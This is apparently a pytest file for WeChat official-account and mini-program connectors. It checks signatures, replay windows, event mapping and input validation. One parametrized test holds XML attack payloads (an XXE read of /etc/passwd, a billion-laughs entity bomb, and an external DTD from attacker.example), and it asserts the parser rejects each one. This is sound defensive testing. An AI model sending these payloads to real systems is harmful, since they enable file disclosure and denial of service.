"""WeChat connectors, pure: the official account's signature and XML pushes, the mini-program's signed JSON events."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cdp.connectors.base import Binding, InboundRequest, Mapped
from cdp.connectors.sources import SourcesConfigError, parse_sources
from cdp.connectors.wechat import MiniProgramConnector, OfficialAccountConnector, oa_signature
from cdp.errors import AuthenticationError, InvalidInputError
from cdp.ingest.events import parse_event
from cdp.ingest.security import sign_cdp
from cdp_local.runtime.environment import LOCAL_SOURCES

SAMPLES = Path(__file__).resolve().parents[3] / "events" / "wechat"
NOW = datetime(2026, 1, 1, 4, 0, tzinfo=UTC)
OA, MP = "wx-local-oa", "wx-local-mp"
TOKEN, SECRET = "local-wechat-token", "local-mini-program-secret"
OPENID = "oX7Pz5Hq2nTtY8kLmN3bVcR4sD1e"
SOURCES = parse_sources(LOCAL_SOURCES)
BINDING = Binding(brand_id="demo-brand", label=f"wechat:{OA}", channel="wechat_oa")


def signed_query(token: str = TOKEN, at: datetime = NOW, **extra: str) -> dict[str, str]:
    timestamp, nonce = str(int(at.timestamp())), "1514711492"
    return {"signature": oa_signature(token, timestamp, nonce), "timestamp": timestamp, "nonce": nonce, **extra}


def oa_request(
    body: bytes = b"", method: str = "POST", key: str = OA, query: dict[str, str] | None = None
) -> InboundRequest:
    return InboundRequest(
        connector="wechat_oa",
        method=method,
        body=body,
        received_at=NOW,
        request_id="req-1",
        key=key,
        headers={"content-type": "text/xml"},
        query=signed_query() if query is None else query,
    )


def push(name: str, **replace: str) -> bytes:
    text = (SAMPLES / name).read_text()
    for old, new in replace.items():
        text = text.replace(old, new)
    return text.encode()


def mapped_push(body: bytes) -> Mapped:
    return OfficialAccountConnector().map(oa_request(body), BINDING)


def only_event(body: bytes) -> dict[str, Any]:
    mapped = mapped_push(body)
    assert not mapped.rejected and len(mapped.items) == 1
    parse_event(mapped.items[0])  # every mapped push is a valid canonical event
    return mapped.items[0]


# ---- official account: signature ---------------------------------------------------------------------------------


def test_good_signature_binds_the_apps_brand() -> None:
    # Given a push signed with the account's token / When authenticated / Then it is bound to the app's brand
    binding = OfficialAccountConnector().authenticate(oa_request(push("subscribe.xml")), SOURCES)
    assert binding.brand_id == "demo-brand" and binding.channel == "wechat_oa"


@pytest.mark.parametrize(
    "query",
    [
        signed_query(token="not-the-token"),
        {**signed_query(), "nonce": "tampered"},
        {k: v for k, v in signed_query().items() if k != "signature"},
        signed_query(at=datetime(2025, 12, 31, 23, 0, tzinfo=UTC)),  # stale: outside the 300 s replay window
        {**signed_query(), "timestamp": "yesterday"},
    ],
    ids=["wrong-token", "tampered-nonce", "missing", "stale", "malformed-timestamp"],
)
def test_bad_or_stale_signature_is_rejected(query: dict[str, str]) -> None:
    with pytest.raises(AuthenticationError):
        OfficialAccountConnector().authenticate(oa_request(push("subscribe.xml"), query=query), SOURCES)


@pytest.mark.parametrize(
    "sources",
    [
        SOURCES,  # no app of that id
        parse_sources({"wechat": {"wx-unknown": {"brand_id": "demo-brand", "kind": "mini_program", "secret": "s"}}}),
    ],
    ids=["unknown-app", "mini-program-without-a-push-token"],
)
def test_unknown_app_or_one_without_a_token_is_rejected(sources: Any) -> None:
    with pytest.raises(AuthenticationError, match="unknown WeChat official account"):
        OfficialAccountConnector().authenticate(oa_request(push("subscribe.xml"), key="wx-unknown"), sources)


def test_signature_is_sha1_of_the_sorted_parts() -> None:
    # WeChat's documented example shape: sha1("".join(sorted([token, timestamp, nonce])))
    import hashlib

    expected = hashlib.sha1(b"".join(sorted([b"tok", b"1700000000", b"42"]))).hexdigest()  # noqa: S324
    assert oa_signature("tok", "1700000000", "42") == expected


def test_url_check_answers_echostr_and_ingests_nothing() -> None:
    # Given WeChat's GET URL verification / When mapped / Then the reply is echostr as text and there are no events
    request = oa_request(method="GET", query=signed_query(echostr="7263495830192837465"))
    mapped = OfficialAccountConnector().map(request, BINDING)
    assert mapped.items == [] and mapped.reply is not None
    assert mapped.reply.body == "7263495830192837465" and mapped.reply.content_type.startswith("text/plain")


def test_a_replayed_url_check_maps_to_nothing() -> None:
    # Given an archived GET replayed (the query is not archived) / Then no events and an empty answer
    mapped = OfficialAccountConnector().map(oa_request(method="GET", query={"method": "GET"}), BINDING)
    assert mapped.items == [] and mapped.reply is not None and mapped.reply.body == ""


# ---- official account: pushes ------------------------------------------------------------------------------------


def test_scan_to_follow_subscribe_grants_wechat_consent_with_the_scene() -> None:
    event = only_event(push("subscribe.xml"))
    assert event["event_type"] == "consent_changed" and event["source"] == "wechat_oa"
    assert event["properties"]["channel"] == "wechat" and event["properties"]["granted"] is True
    assert event["properties"]["scene"] == "store_sh_021" and event["properties"]["qr_ticket"].startswith("gQH47")
    assert event["identifiers"] == [{"type": "wechat_openid", "value": OPENID, "scope": OA}]
    assert event["occurred_at"] == "2026-01-01T02:00:00.000Z"  # CreateTime 1767232800
    assert event["context"] == {"wechat_account": "gh_3f2a1b7c9d10"}


def test_unsubscribe_withdraws_wechat_consent() -> None:
    event = only_event(push("unsubscribe.xml"))
    assert event["event_type"] == "consent_changed"
    assert event["properties"] == {"channel": "wechat", "granted": False, "app_id": OA}


def test_scan_click_and_view_are_custom_events_with_their_key() -> None:
    scan, click, view = (only_event(push(n)) for n in ("scan.xml", "menu_click.xml", "menu_view.xml"))
    assert scan["event_type"] == "custom" and scan["properties"]["name"] == "wechat_scan"
    assert scan["properties"]["scene"] == "store_sh_021"
    assert click["properties"] == {"name": "wechat_menu_click", "event_key": "V1001_MEMBER_CENTER"}
    assert view["properties"]["name"] == "wechat_menu_view" and view["properties"]["menu_id"] == "421350562"
    assert view["properties"]["url"] == "https://shop.example.cn/promo/new-year?utm_source=wechat&utm_medium=menu"


@pytest.mark.parametrize(
    ("sample", "status", "provider_status"),
    [("template_finished.xml", "delivered", "success"), ("template_failed.xml", "failed", "failed:user block")],
)
def test_template_send_job_finish_is_a_message_delivery(sample: str, status: str, provider_status: str) -> None:
    event = only_event(push(sample))
    props = event["properties"]
    assert event["event_type"] == "message_delivered" and props["channel"] == "wechat"
    assert props["status"] == status and props["provider_status"] == provider_status
    assert props["provider"] == "wechat"  # the message id is WeChat's: the message log finds ours through it
    assert props["message_id"].startswith("28947571274593566")
    assert event["event_id"] == f"{OA}:tmpl:{props['message_id']}"


def test_system_failure_status_is_failed() -> None:
    event = only_event(push("template_finished.xml", **{"[CDATA[success]]": "[CDATA[failed: system failed]]"}))
    assert event["properties"]["status"] == "failed"


def test_a_user_message_is_a_custom_event_keyed_by_msgid() -> None:
    event = only_event(push("text_message.xml"))
    assert event["event_type"] == "custom" and event["event_id"] == f"{OA}:msg:24563128973541248"
    assert event["properties"]["name"] == "wechat_message" and event["properties"]["msg_type"] == "text"
    assert event["properties"]["content"].startswith("南京西路店今天几点关门")


def test_unionid_is_an_identifier_when_present() -> None:
    body = push("menu_click.xml", **{"</xml>": "<UnionId><![CDATA[oU1nB7cDx2Lk9Pq4RsT6vWy8zA3e]]></UnionId></xml>"})
    assert {"type": "wechat_unionid", "value": "oU1nB7cDx2Lk9Pq4RsT6vWy8zA3e"} in only_event(body)["identifiers"]


def test_event_ids_are_stable_across_retries_and_distinct_per_key() -> None:
    # Given WeChat re-sends the same push (same FromUserName + CreateTime + Event + EventKey)
    first, retry = only_event(push("menu_view.xml")), only_event(push("menu_view.xml"))
    other_key = only_event(push("menu_view.xml", **{"new-year": "spring"}))
    # Then the id repeats for the retry only, and stays a valid token although the key is a URL
    assert first["event_id"] == retry["event_id"] != other_key["event_id"]
    assert first["event_id"].startswith(f"{OA}:{OPENID}:1767240060:VIEW:")


def test_other_events_are_custom_and_account_notices_are_skipped() -> None:
    location = push(
        "menu_click.xml",
        **{
            "CLICK": "LOCATION",
            "<EventKey><![CDATA[V1001_MEMBER_CENTER]]></EventKey>": "<Latitude>31.2304</Latitude>"
            "<Longitude>121.4737</Longitude><Precision>65.0</Precision>",
        },
    )
    event = only_event(location)
    assert event["properties"] == {
        "name": "wechat_location",
        "latitude": "31.2304",
        "longitude": "121.4737",
        "precision": "65.0",
    }
    notice = push("menu_click.xml", CLICK="qualification_verify_success")
    assert mapped_push(notice).items == []


def test_every_push_is_answered_success() -> None:
    mapped = mapped_push(push("subscribe.xml"))
    assert mapped.reply is not None and mapped.reply.body == "success"


def test_safe_mode_push_is_rejected_with_a_clear_message() -> None:
    # Given an encrypted push for an account configured without its EncodingAESKey / Then the 400 says what to set
    with pytest.raises(InvalidInputError, match="encoding_aes_key") as err:
        mapped_push(push("safe_mode.xml"))
    assert err.value.location == "Encrypt"


def test_compatible_mode_push_maps_its_plain_fields() -> None:
    # Given compatibility mode: the plain fields and <Encrypt> side by side / Then the plain fields are used
    body = push("menu_click.xml", **{"</xml>": "<Encrypt><![CDATA[c2VjcmV0]]></Encrypt></xml>"})
    assert only_event(body)["properties"]["name"] == "wechat_menu_click"


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<xml><FromUserName>&xxe;</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
        b"<xml><FromUserName>&d;</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
        b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><MsgType>text</MsgType></xml>',
    ],
    ids=["xxe-file", "billion-laughs", "external-dtd"],
)
def test_dtds_and_entities_are_refused_before_expansion(body: bytes) -> None:
    with pytest.raises(InvalidInputError, match="DTD or entity") as err:
        mapped_push(body)
    assert err.value.location == "body"


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (b"<xml><FromUserName>oX7</FromUserName", "body"),
        (b"not xml at all", "body"),
        (b"<html><body>hi</body></html>", "body"),
        (b"<xml><CreateTime>1767232800</CreateTime><MsgType>event</MsgType></xml>", "FromUserName"),
        (
            b"<xml><FromUserName>o1</FromUserName><CreateTime>soon</CreateTime><MsgType>text</MsgType></xml>",
            "CreateTime",
        ),
    ],
    ids=["truncated", "not-xml", "wrong-root", "no-sender", "bad-time"],
)
def test_malformed_push_is_400_with_the_field(body: bytes, field: str) -> None:
    with pytest.raises(InvalidInputError) as err:
        mapped_push(body)
    assert err.value.location == field


def test_template_finish_without_msgid_is_rejected_naming_it() -> None:
    mapped = mapped_push(push("template_finished.xml", **{"<MsgID>2894757127459356673</MsgID>": ""}))
    assert mapped.items == [] and mapped.rejected[0].errors[0].field == "MsgID"
    assert mapped.reply is not None and mapped.reply.body == "success"  # a retry would not fix it


# ---- mini-program ------------------------------------------------------------------------------------------------

MP_BINDING = Binding(brand_id="demo-brand", label=f"wechat:{MP}", channel="mini_program")


def mp_request(payload: dict[str, Any] | bytes, at: datetime = NOW, secret: str = SECRET) -> InboundRequest:
    body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return InboundRequest(
        connector="wechat_mp",
        method="POST",
        body=body,
        received_at=NOW,
        request_id="req-2",
        key=MP,
        headers={"content-type": "application/json", "x-cdp-signature": sign_cdp(secret, body, int(at.timestamp()))},
    )


def sample_mp() -> dict[str, Any]:
    data: dict[str, Any] = json.loads((SAMPLES / "miniprogram_events.json").read_text())
    return data


def test_mini_program_signature_good_bad_and_stale() -> None:
    connector = MiniProgramConnector()
    assert connector.authenticate(mp_request(sample_mp()), SOURCES).channel == "mini_program"
    with pytest.raises(AuthenticationError, match="bad signature"):
        connector.authenticate(mp_request(sample_mp(), secret="guessed"), SOURCES)
    with pytest.raises(AuthenticationError, match="replay window"):
        connector.authenticate(mp_request(sample_mp(), at=datetime(2025, 12, 31, tzinfo=UTC)), SOURCES)
    with pytest.raises(AuthenticationError, match="unknown WeChat mini program"):
        connector.authenticate(
            InboundRequest("wechat_mp", "POST", b"{}", NOW, "r", key=OA, headers=mp_request(b"{}").headers), SOURCES
        )


def test_mini_program_sample_maps_every_event() -> None:
    # Given the sample batch / When mapped / Then each event has its canonical type and validates
    mapped = MiniProgramConnector().map(mp_request(sample_mp()), MP_BINDING)
    assert not mapped.rejected
    for item in mapped.items:
        parse_event(item)
    view, phone, cart, order, share = mapped.items
    assert [e["event_type"] for e in mapped.items] == ["page_view", "identify", "add_to_cart", "order_placed", "custom"]
    assert {e["source"] for e in mapped.items} == {"mini_program"}
    assert view["properties"] == {
        "url": "mp://pages/goods/detail?sku=CAKE-001",
        "title": "草莓奶油蛋糕",
        "scene": 1047,
    }
    assert view["occurred_at"] == "2026-01-01T03:00:00.000Z" and view["event_id"] == f"{MP}:mp-7f3c2a10-0001"
    assert {"type": "phone", "value": "13800138000"} in phone["identifiers"]
    assert {"type": "wechat_openid", "value": "oMp4x0Zk3Qw9LrT2yHc7VbN5sJ8a", "scope": MP} in phone["identifiers"]
    assert {"type": "wechat_unionid", "value": "oU1nB7cDx2Lk9Pq4RsT6vWy8zA3e"} in phone["identifiers"]
    assert cart["properties"]["unit_price_minor"] == 3800 and cart["properties"]["currency"] == "CNY"
    assert order["properties"]["total_minor"] == 7600 and order["properties"]["lines"][0]["unit_price_minor"] == 3800
    assert order["properties"]["transaction_id"] == "4200002345202601010123456789"
    assert order["occurred_at"] == "2026-01-01T03:05:12.000Z"
    assert share["properties"] == {
        "name": "share_app_message",
        "path": "pages/goods/detail?sku=CAKE-001",
        "from": "button",
    }


def test_phone_from_country_code_and_pure_number_or_the_top_level_phone() -> None:
    pure = {"id": "p1", "name": "get_phone_number", "timestamp": 1767236455000}
    pure["properties"] = {"purePhoneNumber": "91234567", "countryCode": "852"}
    payload = {"openid": "oMp-1", "phone": "13900001111", "events": [pure, {**pure, "id": "p2", "properties": {}}]}
    first, second = MiniProgramConnector().map(mp_request(payload), MP_BINDING).items
    assert {"type": "phone", "value": "+85291234567"} in first["identifiers"]
    assert [i for i in second["identifiers"] if i["type"] == "phone"] == [{"type": "phone", "value": "13900001111"}]


def test_mini_program_rejects_name_the_field_per_item() -> None:
    good = {"id": "ok-1", "name": "page_view", "timestamp": "2026-01-01T10:00:00+08:00", "properties": {"path": "a"}}
    events: list[Any] = [
        good,
        {**good, "id": "r-1", "name": "order_paid", "properties": {"order_id": "o1", "total": 12.5, "lines": []}},
        {
            **good,
            "id": "r-2",
            "name": "order_paid",
            "properties": {"order_id": "o1", "total": 100, "lines": [{"sku": "S", "price": 12.5}]},
        },
        {**good, "id": "r-3", "properties": {}},
        {**good, "id": "r-4", "timestamp": "last tuesday"},
        {"name": "page_view", "timestamp": 1, "properties": {"path": "a"}},
        {**good, "id": "r-6", "name": "get_phone_number", "properties": {}},
        "not an object",
    ]
    mapped = MiniProgramConnector().map(mp_request({"openid": "oMp-2", "events": events}), MP_BINDING)
    assert [e["event_id"] for e in mapped.items] == [f"{MP}:ok-1"]
    fields = {r.index: r.errors[0].field for r in mapped.rejected}
    assert fields == {
        1: "events.1.properties.lines",
        2: "events.2.properties.lines.0.price",
        3: "events.3.properties.path",
        4: "events.4.timestamp",
        5: "events.5.id",
        6: "events.6.properties.phoneNumber",
        7: "events.7",
    }


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (b"{not json", "body"),
        (b"[]", "body"),
        (json.dumps({"events": [{"id": "1"}]}).encode(), "openid"),
        (json.dumps({"openid": "o1", "events": []}).encode(), "events"),
    ],
)
def test_malformed_mini_program_body_is_400(body: bytes, field: str) -> None:
    with pytest.raises(InvalidInputError) as err:
        MiniProgramConnector().map(mp_request(body), MP_BINDING)
    assert err.value.location == field


# ---- config --------------------------------------------------------------------------------------------------


def test_an_app_without_its_secret_fails_the_config_load() -> None:
    with pytest.raises(SourcesConfigError, match="official_account needs its token"):
        parse_sources({"wechat": {"wx1": {"brand_id": "b", "kind": "official_account"}}})
    with pytest.raises(SourcesConfigError, match=r"mini_program needs its secret .* or token"):
        parse_sources({"wechat": {"wx2": {"brand_id": "b", "kind": "mini_program"}}})
    # a mini-program with only WeChat's message push (no relay of its own) is fine
    assert parse_sources({"wechat": {"wx3": {"brand_id": "b", "kind": "mini_program", "token": "t"}}}).wechat["wx3"]
